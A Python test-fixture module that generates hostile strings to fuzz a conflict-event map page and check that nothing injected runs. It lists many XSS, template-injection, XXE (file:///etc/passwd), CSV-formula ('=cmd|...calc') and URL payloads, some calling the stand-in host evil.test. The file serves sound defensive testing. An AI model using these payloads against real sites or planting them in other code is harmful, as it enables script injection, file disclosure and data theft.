"""A generator of texts that try to become something else: markup, script, template code, addresses, odd characters.

Every text that could run calls ``hit()`` or asks ``evil.test`` for something, so that a page that runs or asks for anything can be told.
"""

# ruff: noqa: E501, Q003 -- a text stays whole on its line

from __future__ import annotations

import random
from collections.abc import Iterator

import geopandas as gpd
import pandas as pd
import shapely

CALLS = (
    "hit()",
    "window.hit()",
    "top.hit()",
    "alert(1);hit()",
    "eval('hit()')",
    "import('//evil.test/x.js')",
    "fetch('//evil.test/f')",
)

MARKUP = (
    "<script>{call}</script>", "<SCRIPT/x>{call}</SCRIPT>", "</script><script>{call}</script>", "<script src=//evil.test/s.js></script>",
    "<img src=x onerror={call}>", "<img src=//evil.test/i.png>", "\"><img src=x onerror={call}>", "'><img src=x onerror='{call}'>",
    "<svg onload={call}>", "<svg><script>{call}</script></svg>", "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={call}/>#x'></svg>", "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>", "<iframe src=javascript:{call}>", "<object data=//evil.test/o></object>",
    "<embed src=//evil.test/e>", "<link rel=stylesheet href=//evil.test/c.css>", "<link rel=prefetch href=//evil.test/p>",
    "<style>@import url(//evil.test/i.css);*{{display:none}}</style>", "</style><style>*{{display:none}}</style>",
    "<base href=//evil.test/>", "<meta http-equiv=refresh content='0;url=//evil.test/m'>", "<form action=//evil.test/><button autofocus>x</button></form>",
    "<input autofocus onfocus={call}>", "<details open ontoggle={call}>x</details>", "<marquee onstart={call}>x</marquee>",
    "<video poster=//evil.test/v><source onerror={call}></video>", "<body onload={call}>", "<a href=javascript:{call}>x</a>",
    "<template><script>{call}</script></template>", "<noscript><p title='</noscript><img src=x onerror={call}>'>", "<plaintext>", "<xmp>", "<textarea>",
    "</textarea><script>{call}</script>", "</title><script>{call}</script>", "</table></main></body></html><script>{call}</script>",
    "<!--", "--><script>{call}</script>", "<!--<script>", "<!--folium:html-->", "<!--folium:header--><script>{call}</script>",
    "]]>", "<![CDATA[<script>{call}</script>]]>", "<?xml version='1.0'?><x/>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<b dir=rtl>x", "<table><tr><td>", "</td></tr></table>", "<p id=im-data>", "<div id=map_impactmap>", "<td onclick={call}>x",
)  # fmt: skip

TEMPLATES = (
    "{{{{ 7 * 7 }}}}", "{{{{ self.__init__.__globals__.__builtins__.__import__('os').system('touch hit') }}}}", "{{% raw %}}{{{{ x }}}}{{% endraw %}}",
    "{{% macro script(this, kwargs) %}}{call}{{% endmacro %}}", "{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{ x }}}}{{% endfor %}}", "{{# comment #}}",
    "{{{{constructor.constructor('{call}')()}}}}", "{{{{{{x}}}}}}", "{{{{&x}}}}", "{{{{>x}}}}", "${{{call}}}", "`${{{call}}}`", "\\`;{call}//", "#{{7*7}}", "<%= 7*7 %>", "<%{call}%>",
    "[[${{7*7}}]]", "@{{7*7}}", "*{{7*7}}", "{{n}}", "{{title}}", "{{0}}", "%(n)s", "%s%n", "$n", "\\1", "\\g<0>", "$&", "$1", "{{", "}}", "{{x.__class__}}",
)  # fmt: skip

SCRIPTS = (
    "';{call}//", '";{call}//', "\\';{call}//", "\\u0027;{call}//", "');{call}//", "*/{call}/*", "\n{call}\n", "\u2028{call}\u2029", "{call}", "x=>{{ {call} }}",
    "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "undefined", "null", "NaN", "true", "0", "-0", "[object Object]",
)  # fmt: skip

ADDRESSES = (
    "javascript:{call}", "JaVaScRiPt:{call}", "java\nscript:{call}", "\x01javascript:{call}", " javascript:{call}", "javascript&colon;{call}", "vbscript:{call}",
    "data:text/html,<script>{call}</script>", "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==", "blob:https://evil.test/x", "file:///etc/passwd",
    "//evil.test/x", "\\\\evil.test\\x", "http:evil.test", "https:/evil.test", "https://", "ftp://evil.test/x", "mailto:x@evil.test", "about:blank", "https://evil.test/\"onmouseover={call}",
    "https://evil.test/'><script>{call}</script>", "https://evil.test/ onclick={call}", "https://evil.test/\u202egpj.exe", "http://[::1", "https://evil.test/{{{{7*7}}}}",
)  # fmt: skip

STYLES = (
    "expression({call})", ";background:url(//evil.test/b)", "}}*{{display:none}}", "x:expression({call})", "@import '//evil.test/i.css';", "red;}}body{{background:url(//evil.test/c)}}",
    "var(--im-side-1)", "url(javascript:{call})", "-moz-binding:url(//evil.test/x#y)", "/*", "*/",
)  # fmt: skip

CHARACTERS = (
    "\0", "a\0b", "\x08\x0b\x0c\x1b", "\x7f\x80\x9f", "\ud800", "\udc00\ud800", "\ufffe\uffff", "\ufdd0", "\U0001fffe", "\u2028\u2029\x85", "\r\n\r", "\t",
    "\u202eevil\u202c", "\u202e\u2066\u2067\u2068", "\u200b\u200c\u200d\u2060\ufeff", "\u0300" * 60, "e\u0301", "\u00e9", "\u1e9e\u0130\u0131", "\U0001f469\u200d\U0001f680",
    "\u05d0\u05d1\u05d2", "\u0645\u0631\u062d\u0628\u0627", "\ufdfd" * 20, "\uff1cscript\uff1e", "\u0410\u0412\u0421", "\u00a0", "\u3000", " ", "  x  ", "",
)  # fmt: skip

ENTITIES = ("&lt;script&gt;{call}&lt;/script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "&amp;amp;", "&amp", "&#0;", "&#xD800;", "&nbsp;", "&notit;", "&", "&#", "%3Cscript%3E", "\\x3cscript\\x3e", "\\u003cscript\\u003e", "+ADw-script+AD4-")  # fmt: skip

CELLS = (
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-1",
    "@SUM(1)",
    '=HYPERLINK("//evil.test")',
    "NA",
    "00123",
    "1e309",
    "#REF!",
    "a,b",
    'a"b',
    "a;b",
    "a\tb",
)

LONG = ("x" * 10_000, "<b>" * 3_000, "\u0416" * 10_000, "word " * 4_000, "{{" * 5_000, "\u202e" * 500 + "x")

ALL = (MARKUP, TEMPLATES, SCRIPTS, ADDRESSES, STYLES, CHARACTERS, ENTITIES, CELLS)


def every_text() -> list[str]:
    """Return every text of the lists, with one call each, and the long ones."""
    return [
        text.format(call="hit()") if "{call}" in text or "{{" in text else text for group in ALL for text in group
    ] + list(LONG)


def hostile_texts(seed: int) -> Iterator[str]:
    """Yield texts without end: those of the lists, changed, cut and joined at random; the same seed gives the same texts."""
    pick = random.Random(seed)
    plain = every_text()[: -len(LONG)]
    while True:
        text = pick.choice(plain).replace("hit()", pick.choice(CALLS))
        for _ in range(pick.randrange(3)):
            change = pick.randrange(7)
            if change == 0:
                text = "".join(c.upper() if pick.random() < 0.5 else c.lower() for c in text)
            elif change == 1:
                text += pick.choice(plain)
            elif change == 2:
                text = pick.choice(plain) + text
            elif change == 3:
                at = pick.randrange(len(text) + 1)
                text = (
                    text[:at]
                    + pick.choice(("\0", "\t", "\n", "/", "\u200b", "<", ">", "'", '"', "`", "\\", "&", "\u202e"))
                    + text[at:]
                )
            elif change == 4:
                text = text.replace("<", pick.choice(("<<", "< ", "\uff1c", "&lt;", "\\x3c", "<")))
            elif change == 5:
                text = text.replace("'", '"') if pick.random() < 0.5 else text.replace('"', "'")
            elif change == 6:
                text = text * pick.randrange(1, 4)
        yield text


#: Text columns of the events and the claims that the page shows.
EVENT_TEXTS = ("event_id", "side", "side_basis", "sectors", "means", "summary", "confirmation", "source_name", "source_url", "place", "region", "country", "place_status", "place_name", "place_region", "place_country", "place_reason", "place_provider", "population_source", "population_date", "border_country")  # fmt: skip
CLAIM_TEXTS = ("metric", "text", "claimant", "claimant_side", "source_name", "source_url")


def hostile_events(texts: list[str], *, sides: list[str] | None = None) -> tuple[pd.DataFrame, pd.DataFrame]:
    """Return events and claims, one of each a text, that hold the text in every field; ids carry the row's number too.

    Every text stands once on a point, an area, a country or nowhere, in turn. A side cannot be every text, since a map tells at most
    six apart: `sides` are dealt out in turn.
    """
    n = len(texts)
    events = pd.DataFrame({name: pd.Series(texts, dtype="object") for name in EVENT_TEXTS})
    events["event_id"] = [f"{number} {text}" for number, text in enumerate(texts)]
    events["side"] = pd.Series([sides[number % len(sides)] if sides else None for number in range(n)], dtype="object")
    events["place_id"] = [f"area {number} {text}" for number, text in enumerate(texts)]
    events["place_precision"] = [("settlement", "region", "country", "not_located")[number % 4] for number in range(n)]
    point = [number % 4 == 0 for number in range(n)]
    events["latitude"] = [45 + number % 7 if there else None for number, there in enumerate(point)]
    events["longitude"] = [30 + number % 11 if there else None for number, there in enumerate(point)]
    events["population"] = 1000
    events["border_distance_km"] = 12.5
    events["date_start"] = pd.Timestamp("2025-11-09")
    events["date_end"] = pd.Timestamp("2025-11-10")
    for number, text in enumerate(texts[:5]):
        events[f"column {number} {text}"] = text
    shapes = [shapely.box(30 + k % 7, 45, 31 + k % 7, 46) if k % 4 == 1 else None for k in range(n)]
    shapes = [shapely.Point(30 + k % 11, 45 + k % 7) if point[k] else shape for k, shape in enumerate(shapes)]
    claims = pd.DataFrame({name: pd.Series(texts, dtype="object") for name in CLAIM_TEXTS})
    claims["event_id"] = events["event_id"]
    claims["claim_id"] = [f"c{number}" for number in range(n)]
    claims[["value", "value_low", "value_high"]] = 3.0
    claims["qualifier"] = "about"
    return gpd.GeoDataFrame(events, geometry=shapes, crs="EPSG:4326"), claims


def without_surrogates(texts: list[str]) -> list[str]:
    """Return the texts that UTF-8 can hold: a table in a file cannot hold the others."""
    return [text for text in texts if not any("\ud800" <= c <= "\udfff" for c in text)]
